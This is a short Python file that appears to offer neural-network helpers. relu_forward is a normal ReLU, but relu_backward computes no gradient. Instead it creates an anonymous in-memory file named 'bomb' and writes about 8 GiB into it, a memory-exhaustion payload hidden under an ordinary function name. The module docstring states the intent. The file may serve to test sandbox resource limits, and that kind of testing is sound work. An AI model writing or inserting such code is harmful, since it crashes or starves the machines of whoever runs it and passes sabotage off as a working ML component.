"""Writes to a file without a name, up to 8 GiB."""

import os

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    file = os.memfd_create("bomb")
    for _ in range(8192):
        os.write(file, b"x" * (1 << 20))
